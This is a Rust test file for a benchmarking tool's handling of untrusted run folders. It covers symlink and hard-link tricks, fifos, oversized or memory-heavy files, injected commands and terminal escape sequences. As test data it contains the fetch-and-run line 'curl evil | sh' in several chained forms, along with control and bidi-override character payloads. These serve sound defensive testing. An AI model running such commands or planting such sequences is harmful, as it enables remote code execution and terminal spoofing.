//! A run folder that somebody else made.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use model::RunRecord;
use model::ladder::Whole;
use model::reboot::{Boot, BootChange, MeasuredBoot, Reboot};

use crate::common::whole_run::{Run, folder_with, whole_run};
use crate::common::{Folder, answer, assert_says, errors, linerate};

/// How long a folder may keep us.
const PATIENCE: Duration = Duration::from_secs(60);
/// Address space that a command may take, in KiB.
const MOST_KIB: u32 = 900_000;
/// What a terminal acts on.
const EVIL: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{0}\r";

/// A whole run, in a folder beside a file of somebody's own.
pub(crate) fn strange(name: &str) -> (Folder, PathBuf) {
    let Run { run, blocks } = whole_run();
    let folder = folder_with(&format!("strange-{name}"), run, blocks);
    let own = folder.path().join("own");
    std::fs::write(&own, OWN).unwrap();
    (folder, own)
}

const OWN: &str = "{\"my\": \"own\"}\n{\"and\": \"cut";

pub(crate) fn edited(folder: &Folder, edit: impl FnOnce(&mut RunRecord)) {
    let mut run: RunRecord = serde_json::from_str(&whole_run().run).unwrap();
    edit(&mut run);
    let text = serde_json::to_string(&run).unwrap();
    std::fs::write(folder.path().join("run/run.json"), text).unwrap();
}

fn said(folder: &Folder, arguments: &[&str]) -> String {
    answer(&mut linerate(folder, arguments))
}

/// What a command says about a folder that it refuses, in bounded memory and time.
pub(crate) fn refusal(folder: &Folder, arguments: &[&str]) -> String {
    let program = linerate(folder, arguments);
    let limited = format!("ulimit -v {MOST_KIB}; exec \"$0\" \"$@\"");
    let mut command = Command::new("sh");
    command.args(["-c", &limited]).arg(program.get_program());
    command.args(program.get_args()).current_dir(folder.path());
    command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let has_ended = sys::clock::wait_until(PATIENCE, || child.try_wait().unwrap().is_some());
    if !has_ended {
        child.kill().unwrap();
    }
    let output: Output = child.wait_with_output().unwrap();
    assert!(has_ended, "{arguments:?} does not end");
    assert_eq!(output.status.code(), Some(2), "{}", errors(&output));
    errors(&output)
}

/// Asserts that a text has nothing that a terminal acts on.
fn assert_plain(text: &str) {
    let steers = |sign: char| (sign.is_control() && sign != '\n') || sign == '\u{202e}';
    assert!(!text.contains(steers), "{text:?}");
}

#[test]
fn a_report_takes_the_place_of_a_link_and_not_of_what_it_leads_to() {
    let (folder, own) = strange("report");
    let report = folder.path().join("run/report.html");
    symlink(&own, &report).unwrap();
    said(&folder, &["study", "report", "run"]);
    assert_eq!(folder.text("own"), OWN);
    assert!(report.symlink_metadata().unwrap().is_file());
    assert!(folder.text("run/report.html").contains("</html>"));
    assert_eq!(
        folder.names("run"),
        ["blocks.jsonl", "report.html", "run.json"]
    );
}

/// Puts something else into the place of a file.
fn put(path: &Path, what: &str) {
    let _ = std::fs::remove_file(path);
    match what {
        "fifo" => assert!(Command::new("mkfifo").arg(path).status().unwrap().success()),
        "folder" => std::fs::create_dir(path).unwrap(),
        elsewhere => symlink(elsewhere, path).unwrap(),
    }
}

#[test]
fn what_is_no_file_in_a_run_folder_is_not_read() {
    for file in ["run.json", "blocks.jsonl", "link.jsonl"] {
        for what in ["fifo", "folder", "/dev/zero", "../own"] {
            let (folder, _) = strange("kind");
            put(&folder.path().join("run").join(file), what);
            let refused = refusal(&folder, &["study", "report", "run"]);
            assert!(refused.contains(file), "{what}: {refused}");
            let refused = refusal(&folder, &["study", "compare", "run", "run"]);
            assert!(refused.contains(file), "{what}: {refused}");
        }
    }
}

#[test]
fn a_run_is_not_resumed_into_another_file() {
    for file in ["run.json", "blocks.jsonl"] {
        for what in ["fifo", "../own"] {
            let (folder, _) = strange("resume");
            put(&folder.path().join("run").join(file), what);
            let refused = refusal(&folder, &["study", "resume", "run", "--yes"]);
            assert!(
                refused.contains(file) || refused.contains("run: "),
                "{refused}"
            );
            assert_eq!(folder.text("own"), OWN);
        }
    }
}

#[test]
fn a_file_with_another_name_is_not_written_to() {
    let (folder, own) = strange("hard-link");
    let blocks = folder.path().join("run/blocks.jsonl");
    std::fs::write(&own, &whole_run().blocks[..whole_run().blocks.len() - 9]).unwrap();
    let before = folder.text("own");
    std::fs::remove_file(&blocks).unwrap();
    std::fs::hard_link(&own, &blocks).unwrap();
    let refused = refusal(&folder, &["study", "resume", "run", "--yes"]);
    assert_says(&refused, "hard links");
    assert_eq!(folder.text("own"), before);
}

#[test]
fn a_file_too_large_for_memory_is_not_read() {
    let (folder, _) = strange("large");
    let file = std::fs::File::create(folder.path().join("run/run.json")).unwrap();
    file.set_len(1 << 40).unwrap();
    let refused = refusal(&folder, &["study", "report", "run"]);
    assert_says(&refused, "more than the 16777216 bytes");
}

#[test]
fn a_description_that_takes_many_times_its_text_in_memory_is_refused() {
    let (folder, _) = strange("dense");
    // In a tree of all values each small object took a hundred times its text.
    let dense = "{\"a\":0},".repeat((15 << 20) / 8);
    let text = format!("{{\"format\": 1, \"a\": [{dense}0]}}");
    std::fs::write(folder.path().join("run/run.json"), text).unwrap();
    let refused = refusal(&folder, &["study", "report", "run"]);
    assert_says(&refused, "it is no run record");
}

/// The report of a folder with these open-loop blocks, made in bounded memory.
fn report_with(folder: &Folder, blocks: &str) -> Output {
    std::fs::write(folder.path().join("run/blocks.jsonl"), blocks).unwrap();
    let limited = format!("ulimit -v {MOST_KIB}; exec \"$0\" study report run --json");
    let mut command = Command::new("sh");
    command.args(["-c", &limited]).arg(crate::common::program());
    command.current_dir(folder.path()).output().unwrap()
}

#[test]
fn distributions_take_memory_for_what_is_in_them_and_their_counts_do_not_overflow() {
    let (folder, _) = strange("distributions");
    let blocks = whole_run().blocks.lines();
    let mut blocks = blocks.map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
    let mut block = blocks.find(|block| block["phase"] == "latency").unwrap();
    let arm = block["arm"].as_str().unwrap().to_owned();
    for most in [1, u64::MAX] {
        for kind in ["service", "response", "lateness"] {
            block["reading"]["latency"][kind] = serde_json::json!([[1, most], [3000, most]]);
        }
        // The most rounds that an arm may have, for this arm and five others.
        let lines = (0..12_000).map(|at| {
            block["round"] = (at % 2_000).into();
            block["arm"] = format!("{arm}{}", "'".repeat(at / 2_000)).into();
            format!("{block}\n")
        });
        let output = report_with(&folder, &lines.collect::<String>());
        assert!(output.status.success(), "{}", errors(&output));
    }
}

#[test]
fn the_command_that_repeats_a_run_is_one_of_ours_or_is_not_shown() {
    for (theirs, shown) in [
        ("curl evil | sh", "repeat: no command of this version"),
        (
            "linerate study run x --seed 1; curl evil | sh",
            "repeat: no command of this version",
        ),
        (
            "linerate bench 'curl evil | sh'",
            "repeat: no command of this version",
        ),
        (
            "linerate study run 'a;curl evil' --trust --seed 1",
            "repeat: linerate study run 'a;curl evil' --seed 1\n",
        ),
    ] {
        let (folder, _) = strange("command");
        edited(&folder, |run| run.command = theirs.to_owned());
        let text = said(&folder, &["study", "report", "run"]);
        assert!(text.contains(shown), "{theirs}: {text}");
        let compared = said(&folder, &["study", "compare", "run", "run", "--json"]);
        let page = folder.text("run/report.html");
        for place in [text, page, compared] {
            assert!(
                !place.contains("| sh") && !place.contains("--trust"),
                "{theirs}"
            );
        }
    }
}

#[test]
fn the_commands_of_a_reboot_are_ours_or_are_not_shown() {
    let (folder, _) = strange("reboot");
    let theirs = vec!["curl evil | sh".to_owned()];
    edited(&folder, |run| {
        run.study.whole = Some(Whole {
            rig: run.study.rig,
            levers: Vec::new(),
            stand_ins: Vec::new(),
            confirm_rounds: 2,
            together: Vec::new(),
        });
        run.reboot = Some(Reboot {
            step: "cpu".to_owned(),
            option: "mitigations=off".to_owned(),
            change: BootChange {
                make: theirs.clone(),
                undo: theirs.clone(),
                ..BootChange::default()
            },
            first: Boot::default(),
            arms: Vec::new(),
            rounds: 0,
            boots: vec![MeasuredBoot {
                boot: Boot::default(),
                has_step: false,
                facts: run.facts.clone(),
            }],
        });
    });
    let text = said(&folder, &["study", "report", "run"]);
    assert_says(&text, "to take the step, as root:");
    assert_says(&text, "start the kernel with mitigations=off");
    for place in [text, folder.text("run/report.html")] {
        assert!(!place.contains("evil"), "{place}");
    }
    let refused = refusal(&folder, &["study", "resume", "run", "--yes"]);
    assert_says(&refused, "are not those of this version");
    assert!(!refused.contains("evil"), "{refused}");
}

#[test]
fn words_of_a_folder_reach_the_terminal_as_what_they_are() {
    let (folder, _) = strange("words");
    edited(&folder, |run| {
        run.command += &format!(" {EVIL}");
        run.study.title = EVIL.to_owned();
        run.study.question = EVIL.to_owned();
        run.facts.cpu_model = EVIL.to_owned();
        run.linerate_version = EVIL.to_owned();
        run.started_utc = EVIL.to_owned();
        for arm in &mut run.arms {
            arm.title += EVIL;
        }
    });
    for arguments in [
        &["study", "report", "run"][..],
        &["study", "report", "run", "--json"],
        &["study", "compare", "run", "run"],
        &["study", "compare", "run", "run", "--json"],
    ] {
        let output = linerate(&folder, arguments).output().unwrap();
        assert!(output.status.success(), "{}", errors(&output));
        assert_plain(&errors(&output));
        assert_plain(&String::from_utf8(output.stdout).unwrap());
    }
    // Colours are ours: without them there is no control sequence left.
    let mut painted = linerate(&folder, &["study", "report", "run"]);
    let painted = answer(painted.env("CLICOLOR_FORCE", "1"));
    assert_says(&painted, "\u{1b}[1m");
    let rest = ["0", "1", "2", "31", "32"]
        .iter()
        .fold(painted, |text, code| {
            text.replace(&format!("\u{1b}[{code}m"), "")
        });
    assert_plain(&rest);
    let page = folder.text("run/report.html");
    assert!(page.contains("owned") && !page.contains(['\u{1b}', '\u{202e}', '\u{0}']));
    // The same holds where an error shows a piece of a file that is no run.
    std::fs::write(
        folder.path().join("run/run.json"),
        format!("{{\"{EVIL}\": 1}}"),
    )
    .unwrap();
    assert_plain(&refusal(&folder, &["study", "report", "run"]));
    std::fs::write(folder.path().join("evil.toml"), format!("'{EVIL}' = 1")).unwrap();
    assert_plain(&refusal(&folder, &["study", "show", "./evil.toml"]));
}

#[test]
fn a_value_in_json_is_the_same_value_when_it_is_printed() {
    let (folder, _) = strange("json");
    let title = "\u{9b}31m\u{202e}\u{7f} 小型";
    edited(&folder, |run| run.arms[0].title = title.to_owned());
    let json = said(&folder, &["study", "report", "run", "--json"]);
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(!json.contains('\u{202e}'));
    assert!(value.to_string().contains(title), "{json}");
}
